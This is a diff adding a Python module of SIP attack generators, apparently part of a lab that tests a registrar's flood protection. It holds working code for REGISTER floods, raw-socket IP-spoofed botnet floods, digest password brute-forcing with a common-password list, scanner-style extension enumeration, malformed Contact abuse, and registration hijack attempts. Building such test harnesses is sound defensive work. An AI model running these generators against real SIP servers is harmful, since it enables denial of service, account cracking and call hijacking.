@@ -1,0 +1,576 @@
+"""Attack generators, each run inside the attackers' namespace:
+
+    python -m floodguard.lab.attacks NAME --server IP --duration S [options]
+
+prints one JSON object with what it did (``sent``, ``answered`` and per-attack details).
+
+- ``volume``: one real source, REGISTERs as fast as one socket can send them.
+- ``botnet``: REGISTERs with bogus credentials from thousands of spoofed sources (raw socket,
+  ``IP_HDRINCL``), each source well under the per-source limits; the answers go to the spoofed
+  addresses, so nothing comes back to count.
+- ``bruteforce``: a real challenge-response password guesser from a real address with an
+  ordinary phone's user agent (so no user-agent rule helps), against one real account; the
+  right password sits in the word list, so an unprotected registrar gets cracked.
+- ``scanner``: svmap/svwar-style discovery with scanner user agents (OPTIONS sweeps and
+  extension enumeration by REGISTER), from several real addresses.
+- ``contact-abuse``: REGISTERs with huge, numerous and malformed Contact headers.
+- ``hijack``: REGISTERs for a victim's AOR pointing its Contact at the attacker: unauthenticated,
+  with wrong passwords, with a forged nonce, with the attacker's own valid credentials, and a
+  ``Contact: *`` unregistration.
+
+SIPVicious' own tools (svcrack, svmap, svwar) are driven by ``runner.py`` where installed; they
+announce themselves as ``friendly-scanner``.
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import json
+import os
+import random
+import secrets
+import select
+import signal
+import socket
+import struct
+import sys
+import time
+from collections import Counter
+from collections.abc import Callable, Iterator
+from typing import Any
+
+from floodguard.lab import sip
+from floodguard.sip import digest
+from floodguard.sip.message import SipMessage, SipParseError, parse_message
+
+COMMON_PASSWORDS = [
+    "1234", "12345", "123456", "password", "admin", "0000", "1111", "secret", "letmein",
+    "qwerty", "sip", "voip", "pass", "test", "1234567", "12345678", "abc123", "changeme",
+    "welcome", "asterisk", "default", "111111", "654321", "000000", "pbx", "phone",
+]
+# Set by SIGINT/SIGTERM: every generator stops at its next step and still reports.
+_STOP: list[bool] = [False]
+
+# The real password is guess number CRACK_AT: an unprotected registrar is cracked, a protected
+# one bans the guesser long before.
+CRACK_AT = 20
+
+
+def _sock(src: str, port: int = 0, *, buffer: int = 4 << 20) -> socket.socket:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, buffer)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
+    s.bind((src, port))
+    s.setblocking(False)
+    return s
+
+
+def _drain(sock: socket.socket, handle: Callable[[bytes], None] | None = None) -> int:
+    got = 0
+    while True:
+        try:
+            data = sock.recv(65535)
+        except (BlockingIOError, InterruptedError):
+            return got
+        except OSError:
+            continue
+        got += 1
+        if handle is not None:
+            handle(data)
+
+
+def _parse(data: bytes) -> SipMessage | None:
+    try:
+        return parse_message(data)
+    except SipParseError:
+        return None
+
+
+class Pacer:
+    """Paces a loop to ``rate`` items per second (rate 0: as fast as possible).
+
+    Fast floods are paced by spinning in batches of at most ``BATCH`` packets rather than by
+    sleeping: a flood that arrives in bursts with quiet gaps between them lets a registrar's
+    socket buffer drain in the gaps, which a real botnet (thousands of independent senders)
+    never does.
+    """
+
+    BATCH = 16
+    SPIN_ABOVE = 2000.0  # packets/s
+    MAX_BEHIND = 0.005  # s: after being descheduled, skip what is older instead of bursting
+
+    def __init__(self, rate: float, duration: float) -> None:
+        self.rate = rate
+        self.start = time.monotonic()
+        self.end = self.start + duration
+        self.done = 0
+        self.skipped = 0
+
+    def due(self) -> int:
+        """How many items are due now (0 when ahead of schedule); -1 when time is up."""
+        now = time.monotonic()
+        if now >= self.end or _STOP[0]:
+            return -1
+        if not self.rate:
+            return self.BATCH
+        due = int((now - self.start) * self.rate) - self.done
+        behind = int(self.rate * self.MAX_BEHIND)
+        if self.rate >= self.SPIN_ABOVE and due > behind + self.BATCH:
+            self.skipped += due - behind
+            self.done += due - behind
+            due = behind
+        if due <= 0:
+            if self.rate < self.SPIN_ABOVE:
+                ahead = (self.done + 1) / self.rate - (now - self.start)
+                time.sleep(min(0.002, max(0.0, ahead)))
+            return 0
+        return min(due, self.BATCH)
+
+
+# ---------------------------------------------------------------------------- volume
+
+
+def volume(args: argparse.Namespace) -> dict[str, Any]:
+    """One source, one socket, REGISTERs as fast as possible (or at --rate)."""
+    src = args.sources[0]
+    sock = _sock(src, 5070)
+    template = sip.register(server=args.server, src=src, sport=5070, user="10000",
+                            call_id="volume-%08d@flood", cseq=1, via_branch="z9hG4bKvol%08d",
+                            user_agent="Grandstream GXP2170 1.0.11.3")
+    text = template.decode()
+    pacer = Pacer(args.rate, args.duration)
+    sent = answered = 0
+    while (due := pacer.due()) >= 0:
+        for _ in range(due):
+            try:
+                sock.sendto((text % (sent, sent)).encode(), (args.server, sip.SIP_PORT))
+            except (BlockingIOError, InterruptedError):
+                select.select([], [sock], [], 0.01)
+                break
+            except OSError:
+                break
+            sent += 1
+            pacer.done += 1
+        answered += _drain(sock)
+    time.sleep(0.3)
+    answered += _drain(sock)
+    return {"sent": sent, "answered": answered, "sources": 1}
+
+
+# ---------------------------------------------------------------------------- botnet
+
+
+def _ip_checksum(header: bytes) -> int:
+    total = sum(struct.unpack("!10H", header))
+    total = (total >> 16) + (total & 0xFFFF)
+    total += total >> 16
+    return ~total & 0xFFFF
+
+
+def spoofed_datagram(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
+    """An IPv4+UDP packet for a raw IP_HDRINCL socket (UDP checksum 0: optional in IPv4)."""
+    length = 20 + 8 + len(payload)
+    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP, 0,
+                         socket.inet_aton(src), socket.inet_aton(dst))
+    header = header[:10] + struct.pack("!H", _ip_checksum(header)) + header[12:]
+    return header + struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
+
+
+def botnet_packets(sources: list[str], server: str, users: int) -> list[tuple[bytes, bytes]]:
+    """Per spoofed source, a REGISTER with bogus credentials split around an 8-digit counter
+    in the branch (so every packet is a new transaction, and the length never changes)."""
+    rng = random.Random(7)
+    out = []
+    for i, src in enumerate(sources):
+        sport = 5060 + (i % 3) * 1000
+        user = str(sip.FIRST_USER + rng.randrange(users)) if i % 2 else f"u{rng.randrange(10**6)}"
+        nonce = secrets.token_hex(16)
+        auth = (f'Digest username="{user}", realm="{sip.REALM}", nonce="{nonce}", '
+                f'uri="sip:{server}", response="{secrets.token_hex(16)}", algorithm=MD5, '
+                f'qop=auth, nc=00000001, cnonce="{secrets.token_hex(4)}"')
+        msg = sip.register(server=server, src=src, sport=sport, user=user,
+                           call_id=f"{secrets.token_hex(8)}@{src}", cseq=2,
+                           authorization=auth, via_branch="z9hG4bKbot@@@@@@@@",
+                           user_agent="Linksys/SPA942-6.1.5")
+        packet = spoofed_datagram(src, server, sport, sip.SIP_PORT, msg)
+        head, tail = packet.split(b"@@@@@@@@", 1)
+        out.append((head, tail))
+    return out
+
+
+def botnet(args: argparse.Namespace) -> dict[str, Any]:
+    """Spoofed REGISTERs round-robin over every source, at --rate packets/s in all."""
+    sources = args.sources
+    packets = botnet_packets(sources, args.server, args.users)
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
+    dest = (args.server, 0)
+    n = len(packets)
+    pacer = Pacer(args.rate, args.duration)
+    sent = errors = 0
+    send = raw.sendto
+    while (due := pacer.due()) >= 0:
+        for _ in range(due):
+            head, tail = packets[sent % n]
+            try:
+                send(head + b"%08x" % (sent // n) + tail, dest)
+            except OSError:
+                errors += 1
+            sent += 1
+        pacer.done += due
+    elapsed = time.monotonic() - pacer.start
+    return {"sent": sent, "answered": 0, "sources": n, "send_errors": errors,
+            "per_source_rate": round(sent / n / max(elapsed, 1e-9), 3),
+            "rate": round(sent / max(elapsed, 1e-9), 1)}
+
+
+# ---------------------------------------------------------------------------- guessing
+
+
+class Dialog:
+    """One UDP socket doing request/response exchanges with retransmission."""
+
+    def __init__(self, src: str, sport: int, server: str) -> None:
+        self.src, self.sport, self.server = src, sport, server
+        self.sock = _sock(src, sport, buffer=1 << 20)
+        self.sent = 0
+
+    def exchange(self, data: bytes, call_id: str, cseq: int, wait: float = 1.0,
+                 tries: int = 2) -> SipMessage | None:
+        """Send, retransmit after ``wait``, return the final response (None: no answer)."""
+        for _ in range(tries):
+            self.sock.sendto(data, (self.server, sip.SIP_PORT))
+            self.sent += 1
+            deadline = time.monotonic() + wait
+            while (left := deadline - time.monotonic()) > 0:
+                ready, _, _ = select.select([self.sock], [], [], left)
+                if not ready:
+                    break
+                try:
+                    raw = self.sock.recv(65535)
+                except (BlockingIOError, InterruptedError):
+                    continue
+                msg = _parse(raw)
+                if (msg is None or msg.is_request or msg.call_id != call_id
+                        or msg.cseq_num != cseq or (msg.status or 0) < 200):
+                    continue
+                return msg
+        return None
+
+
+def _authorization(msg: SipMessage, user: str, secret: str, server: str,
+                   forged_nonce: bool = False) -> str | None:
+    challenge = next((c for c in msg.challenges if c.nonce), None)
+    if challenge is None:
+        return None
+    algorithm = (challenge.algorithm or "MD5").upper()
+    if algorithm not in digest.ALGORITHMS:
+        algorithm = "MD5"
+    nonce = secrets.token_urlsafe(24) if forged_nonce else challenge.nonce or ""
+    return digest.authorization_header(user, secret, challenge.realm or "", nonce,
+                                       f"sip:{server}", "REGISTER", algorithm=algorithm,
+                                       qop="auth" if challenge.qop else None,
+                                       opaque=challenge.opaque)
+
+
+def guesses(user: str, count: int) -> Iterator[str]:
+    """A word list with the real password at position CRACK_AT."""
+    words = [w for w in COMMON_PASSWORDS if w != sip.password(user)]
+    i = 0
+    while i < count:
+        if i + 1 == CRACK_AT:
+            yield sip.password(user)
+        else:
+            yield words[i % len(words)] + ("" if i < len(words) else str(i))
+        i += 1
+
+
+def bruteforce(args: argparse.Namespace) -> dict[str, Any]:
+    """Challenge-response guessing of one account's password from one real address.
+
+    Every guess answers a nonce the registrar issued to this very address, so each 401 is a
+    proven failure. Once the registrar stops answering (banned), the guesser keeps knocking at
+    the same pace so the drops show in the kernel counters.
+    """
+    src, target = args.sources[0], args.target
+    dialog = Dialog(src, 5080, args.server)
+    call_id = f"bf-{secrets.token_hex(6)}@{src}"
+    cseq = 1
+    start = time.monotonic()
+    end = start + args.duration
+    proven = 0
+    cracked: str | None = None
+    blocked_after: int | None = None
+    silent_at: float | None = None
+    statuses: Counter[str] = Counter()
+    last: SipMessage | None = None
+    words = guesses(target, 10**6)
+    while time.monotonic() < end and cracked is None and not _STOP[0]:
+        auth = _authorization(last, target, next(words), args.server) if last is not None \
+            else None
+        request = sip.register(server=args.server, src=src, sport=5080, user=target,
+                               call_id=call_id, cseq=cseq, authorization=auth,
+                               user_agent=sip.PHONE_AGENT)
+        reply = dialog.exchange(request, call_id, cseq, wait=0.5, tries=2)
+        cseq += 1
+        if reply is None:
+            statuses["no answer"] += 1
+            if blocked_after is None:
+                blocked_after = proven
+                silent_at = time.monotonic() - start
+            last = None
+            time.sleep(max(0.0, 1.0 / args.rate))
+            continue
+        statuses[str(reply.status)] += 1
+        if reply.status == 200 and auth is not None:
+            cracked = "yes"
+            break
+        if (reply.status in (401, 407) and auth is not None
+                and not any(c.stale for c in reply.challenges)):
+            proven += 1
+        last = reply if reply.status in (401, 407) else None
+        if args.rate:
+            time.sleep(1.0 / args.rate)
+    return {"sent": dialog.sent, "answered": sum(v for k, v in statuses.items()
+                                                  if k != "no answer"),
+            "sources": 1, "target": target, "proven_failures": proven,
+            "blocked_after_failures": blocked_after, "blocked_at_s": silent_at,
+            "cracked": cracked is not None, "statuses": dict(statuses)}
+
+
+# ---------------------------------------------------------------------------- scanner
+
+SCANNER_AGENTS = ["friendly-scanner", "sipvicious", "sipcli/v1.8", "VaxSIPUserAgent/3.1",
+                  "pplsip"]
+
+
+def scanner(args: argparse.Namespace) -> dict[str, Any]:
+    """svmap-style OPTIONS sweeps and svwar-style REGISTER enumeration, scanner user agents."""
+    socks = [_sock(src, 5090) for src in args.sources]
+    pacer = Pacer(args.rate, args.duration)
+    sent = answered = 0
+    found: set[str] = set()
+    extension = 100
+
+    def seen(data: bytes) -> None:
+        msg = _parse(data)
+        if (msg is not None and not msg.is_request and msg.status in (200, 401, 403, 407)
+                and msg.cseq_method == "REGISTER" and msg.to_user):
+            found.add(msg.to_user)
+
+    while (due := pacer.due()) >= 0:
+        for _ in range(due):
+            i = sent % len(socks)
+            sock, src = socks[i], args.sources[i]
+            agent = SCANNER_AGENTS[sent % len(SCANNER_AGENTS)]
+            if sent % 2:
+                data = sip.options(server=args.server, src=src, sport=5090,
+                                   user=str(extension), user_agent=agent)
+            else:
+                data = sip.register(server=args.server, src=src, sport=5090,
+                                    user=str(extension), call_id=secrets.token_hex(8),
+                                    cseq=1, user_agent=agent)
+                extension = 100 + (extension - 99) % 20000
+            with contextlib.suppress(OSError):
+                sock.sendto(data, (args.server, sip.SIP_PORT))
+            sent += 1
+        pacer.done += due
+        for sock in socks:
+            answered += _drain(sock, seen)
+    time.sleep(0.3)
+    for sock in socks:
+        answered += _drain(sock, seen)
+    return {"sent": sent, "answered": answered, "sources": len(socks),
+            "extensions_answered": len(found)}
+
+
+# ---------------------------------------------------------------------------- contact abuse
+
+
+def abusive_contacts(src: str, sport: int) -> list[tuple[str, tuple[str, ...]]]:
+    """Contact headers that are huge, numerous or malformed: (Contact value, extra lines)."""
+    user = sip.ATTACKER_USER
+    big_uri = f"<sip:{'a' * 60000}@{src}:{sport}>"
+    many = ", ".join(f"<sip:c{i}@{src}:{sport}>" for i in range(2000))
+    params = f"<sip:{user}@{src}:{sport}>;" + ";".join(f"p{i}=v{i}" for i in range(4000))
+    lines = tuple(f"Contact: <sip:l{i}@{src}:{sport}>" for i in range(120))
+    return [
+        (big_uri, ()),
+        (many, ()),
+        (params, ()),
+        (f"<sip:{user}@{src}:{sport}>", lines),
+        (f"<sip:{user}@{src}:{sport}", ()),  # unterminated
+        (f'"{"x" * 3000}<sip:{user}@{src}>', ()),  # unterminated quote
+        (f"<http://{src}/{'z' * 2000}>", ()),  # not a SIP URI
+        (f"<sip:{user}@{src}:{sport}>;expires=abc", ()),
+        (f"<sip:{user}@{src}:99999999999>", ()),
+        ("<sip:@>", ()),
+        ("<" * 5000 + ">" * 5000, ()),
+        (f"<sip:{user}@[{'f' * 500}]>", ()),
+    ]
+
+
+class AbuseSource:
+    """One abusing host: its socket, and a nonce for its own account once it has one."""
+
+    def __init__(self, src: str, server: str, sport: int = 5095) -> None:
+        self.src, self.server, self.sport = src, server, sport
+        self.sock = _sock(src, sport)
+        self.contacts = abusive_contacts(src, sport)
+        self.challenge: Any = None
+        self.nc = 0
+        self.call_id = f"abuse-{secrets.token_hex(6)}@{src}"
+        self.cseq = 0
+
+    def message(self, index: int) -> bytes:
+        """Every other message is authenticated with the attackers' own valid account, so the
+        registrar has to look at its Contacts instead of just challenging it."""
+        contact, extra = self.contacts[index % len(self.contacts)]
+        self.cseq += 1
+        auth = None
+        if index % 2 and self.challenge is not None:
+            self.nc += 1
+            ch = self.challenge
+            algorithm = (ch.algorithm or "MD5").upper()
+            auth = digest.authorization_header(
+                sip.ATTACKER_USER, sip.ATTACKER_PASSWORD, ch.realm or "", ch.nonce or "",
+                f"sip:{self.server}", "REGISTER",
+                algorithm=algorithm if algorithm in digest.ALGORITHMS else "MD5",
+                qop="auth" if ch.qop else None, nc=self.nc, opaque=ch.opaque)
+        return sip.register(server=self.server, src=self.src, sport=self.sport,
+                            user=sip.ATTACKER_USER, call_id=self.call_id, cseq=self.cseq,
+                            contact=contact, extra=extra, authorization=auth,
+                            user_agent="Cisco-SIPGateway/IOS-12.x")
+
+    def seen(self, data: bytes, statuses: Counter[str]) -> None:
+        msg = _parse(data)
+        statuses[str(msg.status) if msg is not None else "unparseable"] += 1
+        if msg is not None and msg.status in (401, 407):
+            challenge = next((c for c in msg.challenges if c.nonce), None)
+            if challenge is not None and (self.challenge is None
+                                          or challenge.nonce != self.challenge.nonce):
+                self.challenge, self.nc = challenge, 0
+
+
+def contact_abuse(args: argparse.Namespace) -> dict[str, Any]:
+    """Round-robin over the abusive REGISTERs from every source at --rate packets/s."""
+    hosts = [AbuseSource(src, args.server) for src in args.sources]
+    pacer = Pacer(args.rate, args.duration)
+    sent = answered = 0
+    statuses: Counter[str] = Counter()
+    while (due := pacer.due()) >= 0:
+        for _ in range(due):
+            host = hosts[sent % len(hosts)]
+            with contextlib.suppress(OSError):
+                host.sock.sendto(host.message(sent // len(hosts)), (args.server, sip.SIP_PORT))
+            sent += 1
+        pacer.done += due
+        for host in hosts:
+            answered += _drain(host.sock, lambda d, h=host: h.seen(d, statuses))
+    time.sleep(0.3)
+    for host in hosts:
+        answered += _drain(host.sock, lambda d, h=host: h.seen(d, statuses))
+    return {"sent": sent, "answered": answered, "sources": len(hosts),
+            "statuses": dict(statuses)}
+
+
+# ---------------------------------------------------------------------------- hijack
+
+
+def hijack(args: argparse.Namespace) -> dict[str, Any]:
+    """Try every way to bind the victim's AOR to the attacker's contact; count any 200."""
+    src, victim = args.sources[0], args.target
+    dialog = Dialog(src, 5085, args.server)
+    contact = f"<sip:{victim}@{src}:5085>"
+    start = time.monotonic()
+    end = start + args.duration
+    outcomes: Counter[str] = Counter()
+    hijacked = 0
+    round_no = 0
+    while time.monotonic() < end and not _STOP[0]:
+        round_no += 1
+        call_id = f"hj-{secrets.token_hex(6)}@{src}"
+        first = sip.register(server=args.server, src=src, sport=5085, user=victim,
+                             call_id=call_id, cseq=1, contact=contact)
+        reply = dialog.exchange(first, call_id, 1, wait=0.5, tries=1)
+        kind = ("wrong-password", "own-credentials", "forged-nonce",
+                "unregister-all")[round_no % 4]
+        if reply is None:
+            outcomes["no answer"] += 1
+            time.sleep(1.0 / args.rate)
+            continue
+        if reply.status == 200:
+            hijacked += 1
+        if reply.status not in (401, 407):
+            outcomes[f"unauthenticated {reply.status}"] += 1
+            continue
+        if kind == "own-credentials":
+            auth = _authorization(reply, sip.ATTACKER_USER, sip.ATTACKER_PASSWORD, args.server)
+        elif kind == "forged-nonce":
+            auth = _authorization(reply, victim, sip.password(victim) + "?", args.server,
+                                  forged_nonce=True)
+        else:
+            auth = _authorization(reply, victim, random.choice(COMMON_PASSWORDS), args.server)
+        second = sip.register(
+            server=args.server, src=src, sport=5085, user=victim, call_id=call_id, cseq=2,
+            contact="*" if kind == "unregister-all" else contact, authorization=auth,
+            expires=0 if kind == "unregister-all" else 3600)
+        reply = dialog.exchange(second, call_id, 2, wait=0.5, tries=1)
+        status = "no answer" if reply is None else str(reply.status)
+        outcomes[f"{kind} {status}"] += 1
+        if reply is not None and reply.status == 200:
+            hijacked += 1
+        time.sleep(1.0 / args.rate)
+    answered = sum(v for k, v in outcomes.items() if not k.endswith("no answer"))
+    return {"sent": dialog.sent, "answered": answered, "sources": 1, "victim": victim,
+            "hijack_200": hijacked, "outcomes": dict(outcomes)}
+
+
+# ---------------------------------------------------------------------------- command line
+
+ATTACKS: dict[str, Callable[[argparse.Namespace], dict[str, Any]]] = {
+    "volume": volume,
+    "botnet": botnet,
+    "bruteforce": bruteforce,
+    "scanner": scanner,
+    "contact-abuse": contact_abuse,
+    "hijack": hijack,
+}
+
+
+def main(argv: list[str] | None = None) -> int:
+    """Run one attack and print its JSON summary."""
+    ap = argparse.ArgumentParser(prog="python -m floodguard.lab.attacks")
+    ap.add_argument("attack", choices=sorted(ATTACKS))
+    ap.add_argument("--server", required=True)
+    ap.add_argument("--duration", type=float, default=10.0)
+    ap.add_argument("--rate", type=float, default=0.0, help="packets (or guesses) per second")
+    ap.add_argument("--source", dest="sources", action="append", default=[],
+                    help="source address (repeat); botnet: see --botnet-sources")
+    ap.add_argument("--botnet-sources", type=int, default=0,
+                    help="botnet: this many spoofed sources from the lab's botnet range")
+    ap.add_argument("--users", type=int, default=60, help="lab accounts that exist")
+    ap.add_argument("--target", default=sip.phone_user(0), help="account attacked")
+    args = ap.parse_args(argv)
+    if args.attack == "botnet":
+        from floodguard.lab.topology import botnet_addresses
+
+        args.sources = botnet_addresses(args.botnet_sources or 10000)
+    if not args.sources:
+        ap.error("at least one --source is needed")
+    def on_stop(_sig: int, _frame: object) -> None:
+        _STOP[0] = True
+
+    signal.signal(signal.SIGINT, on_stop)
+    signal.signal(signal.SIGTERM, on_stop)
+    began = time.time()
+    result = ATTACKS[args.attack](args)
+    result.update(attack=args.attack, started=began, ended=time.time(), pid=os.getpid())
+    sys.stdout.write(json.dumps(result) + "\n")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
